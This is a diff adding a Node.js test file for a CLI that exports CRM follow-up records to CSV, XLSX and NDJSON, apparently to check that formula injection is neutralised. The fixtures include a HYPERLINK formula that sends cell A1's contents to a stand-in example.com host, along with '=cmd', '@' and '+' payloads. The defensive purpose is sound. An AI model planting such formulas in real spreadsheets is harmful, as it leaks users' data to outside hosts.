@@ -1,0 +1,211 @@
+import assert from 'node:assert/strict'
+import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { after, before, test } from 'node:test'
+import { parse } from 'csv-parse/sync'
+import { addCompany, exportText, genjin, genjinDone, startGenjin } from '../support/cli.ts'
+import type { TestClient } from '../support/client.ts'
+import { doubleRecord, platformDouble } from '../support/platform-double.ts'
+import { noteSecret } from '../support/recording.ts'
+import { follow, startTestServer, type TestServer } from '../support/server.ts'
+import { partOf, xlsxSheets } from '../support/sheets.ts'
+import { tempFolder } from '../support/temp-folder.ts'
+
+const FORMULA = `=HYPERLINK("http://example.com/?"&A1,"点我")`
+
+let server: TestServer
+let client: TestClient
+let folder: ReturnType<typeof tempFolder>
+let app: string
+
+before(async () => {
+  server = await startTestServer()
+  folder = tempFolder()
+  client = await server.company('sales', [
+    { kind: 'department', id: 1, name: '销售部' },
+    { kind: 'staff', user_id: 'zhang', name: '张伟', department_ids: [1] },
+    { kind: 'staff', user_id: 'li', name: '=cmd', department_ids: [2] },
+    {
+      kind: 'custom_field',
+      key: 'level',
+      name: '@等级',
+      type: 'single',
+      options: [{ id: 'a', name: '+重点' }],
+    },
+    ...Array.from({ length: 2300 }, (_, index) =>
+      follow({
+        id: index + 1,
+        follow_user_id: index % 2 ? 'zhang' : 'li',
+        content: index === 7 ? FORMULA : `第 ${index} 次\n"报价",-${index}`,
+        follow_time: Date.UTC(2025, 0, 1) + index * 1_800_000,
+        business_type: index % 3 ? 1 : 3,
+        field_map: { level: 'a', rate: index },
+      }),
+    ),
+    follow({ id: 1538877699425540, system: true, title: '客户入群' }),
+  ])
+  app = join(folder.path, 'app.json')
+  writeFileSync(app, JSON.stringify(client.credentials))
+  noteSecret(client.credentials.app_secret)
+})
+
+after(async () => {
+  await server[Symbol.asyncDispose]()
+  folder[Symbol.dispose]()
+})
+
+const remote = () => ['export', '--from', server.url, '--app', app]
+const local = () => ['export', '--corp', 'sales', '--database', server.temp.database]
+
+async function csvRows(args: readonly string[]): Promise<Record<string, string>[]> {
+  const { stdout } = await genjinDone([...args, '--format', 'csv'])
+  return parse(stdout, { bom: true, columns: true })
+}
+
+test('csv from a server and from a database: the same, every follow-up once, newest first, with BOM', async () => {
+  const { stdout, stderr } = await genjinDone([...remote(), '--format', 'csv'])
+  assert.equal(stderr, '已导出:2300 条跟进\n')
+  assert.ok(stdout.startsWith('\ufeff跟进ID,跟进时间,跟进人ID,跟进人,跟进内容,'))
+  assert.equal((await genjinDone([...local(), '--format', 'csv'])).stdout, stdout)
+  const rows = parse(stdout, { bom: true, columns: true }) as Record<string, string>[]
+  assert.deepEqual(
+    rows.map((row) => row.跟进ID),
+    Array.from({ length: 2300 }, (_, index) => String(2300 - index)),
+  )
+  assert.equal(rows.at(-1)?.跟进时间, '2025-01-01 08:00:00')
+  assert.deepEqual(new Set(rows.map((row) => row.对象类型)), new Set(['客户', '商机']))
+})
+
+test('formula cells are harmless in content, names and headings; --raw and field names by choice', async () => {
+  const [row] = await csvRows([...remote(), '--id-list', '8'])
+  assert.equal(row?.跟进内容, `'${FORMULA}`)
+  const [other] = await csvRows([...remote(), '--id-list', '1'])
+  assert.equal(other?.跟进人, "'=cmd")
+  assert.equal(other?.["'@等级"], "'+重点")
+  const [raw] = await csvRows([...remote(), '--id-list', '8', '--raw', '--headings', 'fields'])
+  assert.equal(raw?.content, FORMULA)
+  assert.equal(raw?.['field_map.level'], '+重点')
+  assert.equal(raw?.field_map, '{"rate":7}')
+})
+
+test('xlsx: opened by another reader, formulas are texts', async () => {
+  const out = join(folder.path, 'sales.xlsx')
+  const { stdout } = await genjinDone([...remote(), '--format', 'xlsx', '--out', out])
+  assert.equal(stdout, '已导出:2300 条跟进\n')
+  assert.equal(statSync(out).mode & 0o777, 0o600)
+  const [{ data: rows } = { data: [] }] = await xlsxSheets(readFileSync(out))
+  assert.equal(rows.length, 2301)
+  const [head = [], ...cells] = rows
+  assert.equal(head[0], '跟进ID')
+  const content = head.indexOf('跟进内容')
+  assert.equal(cells[2300 - 8]?.[content], FORMULA)
+  assert.ok(cells[0]?.[1] instanceof Date)
+  // No cell is a formula, for whichever program.
+  const sheet = partOf(readFileSync(out), 'xl/worksheets/sheet1.xml')
+  assert.doesNotMatch(sheet, /<f[ >]/)
+})
+
+test('ndjson can be imported, and says what follow/list says', async () => {
+  const out = join(folder.path, 'sales.ndjson')
+  await genjinDone([...remote(), '--format', 'ndjson', '--out', out, '--target-type', '3'])
+  await addCompany(server.temp.database, 'again')
+  await genjinDone(['import', out, '--corp', 'again', '--database', server.temp.database])
+  const records = (text: string) => text.split('\n').filter((line) => line.includes('"business_type":3,'))
+  const [again, first] = [
+    await exportText(server.temp.database, 'again'),
+    await exportText(server.temp.database, 'sales'),
+  ]
+  const plain = (line: string) => line.replace(/"create_time":\d+,"update_time":\d+/, '')
+  assert.deepEqual(records(again).map(plain), records(first).map(plain))
+})
+
+test('the filters are those of follow/list', async () => {
+  for (const [options, body] of [
+    [['--target-type', '3'], { target_type: 3 }],
+    [['--follow-user-ids', 'zhang,nobody'], { follow_user_ids: ['zhang', 'nobody'] }],
+    [['--follow-dep-ids', '1', '--fetch-child', '0'], { follow_dep_ids: [1], fetch_child: 0 }],
+    [
+      [
+        '--follow-time-start',
+        '2025-01-10',
+        '--follow-time-end',
+        '2025-01-12',
+        '--follow-type-name',
+        '电话跟进',
+      ],
+      { follow_time_start: '2025-01-10', follow_time_end: '2025-01-12', follow_type_name: '电话跟进' },
+    ],
+    [['--id-list', '5, 6,7'], { id_list: ['5', '6', '7'] }],
+    [
+      ['--target-id-list', 'c1', '--follow-type-list', '1', '--title', 'x'],
+      { target_id_list: ['c1'], follow_type_list: [1], title: 'x' },
+    ],
+  ] as const) {
+    const { total } = await client.list(body)
+    const rows = await csvRows([...local(), ...options])
+    assert.equal(rows.length, total, options.join(' '))
+  }
+})
+
+test('from a server that knows only the documented operations', async () => {
+  const records = Array.from({ length: 2500 }, (_, index) =>
+    doubleRecord(index, Date.UTC(2024, 2, 1) + index * 3_600_000),
+  )
+  await using platform = await platformDouble(records)
+  const args = ['export', '--from', platform.url, '--appid', 'wxapp', '--format', 'csv']
+  const { stdout } = await genjinDone(args, { env: { GENJIN_APP_SECRET: 'wxsecret' } })
+  const rows = parse(stdout, { bom: true, columns: true }) as Record<string, string>[]
+  assert.equal(rows.length, 2500)
+  assert.equal(rows[0]?.跟进ID, '1538877699425542596')
+  assert.equal(rows[0]?.跟进人, '张伟')
+  assert.equal(rows[0]?.其他自定义字段, '{"amount":2499.50,"no":12345678901234567890}')
+  assert.ok(platform.deepest <= 1000)
+})
+
+test('refusals leave no file: filters, options, a terminal of no use; Ctrl-C neither', async () => {
+  const out = join(folder.path, 'none.csv')
+  const refused = await genjin([...remote(), '--format', 'csv', '--out', out, '--target-type', '77'])
+  assert.equal(refused.code, 1)
+  assert.match(refused.stderr, /40020 .*target_type.*1、3、4/)
+  for (const wrong of [
+    [...remote(), '--format', 'pdf'],
+    [...remote(), '--format', 'csv', '--headings', 'en'],
+    [...remote()],
+    [...local(), '--raw'],
+    [...remote(), '--corp', 'sales', '--format', 'csv'],
+    ['export', '--format', 'csv'],
+  ]) {
+    assert.equal((await genjin([...wrong, '--out', out])).code, 2, wrong.join(' '))
+  }
+  await using process = startGenjin([...local(), '--format', 'xlsx', '--out', out])
+  process.kill('SIGINT')
+  await process.ended
+  const { code } = await genjin([
+    ...remote(),
+    '--format',
+    'csv',
+    '--out',
+    join(folder.path, 'no/such/folder.csv'),
+  ])
+  assert.equal(code, 1)
+  assert.ok(!existsSync(out))
+  assert.deepEqual(
+    readdirSync(folder.path).filter((name) => name.includes('none')),
+    [],
+  )
+})
+
+test('--json says how many', async () => {
+  const out = join(folder.path, 'few.csv')
+  const { stdout } = await genjinDone([
+    ...remote(),
+    '--format',
+    'csv',
+    '--out',
+    out,
+    '--id-list',
+    '1,2',
+    '--json',
+  ])
+  assert.deepEqual(JSON.parse(stdout), { rows: 2, shortened: 0 })
+})
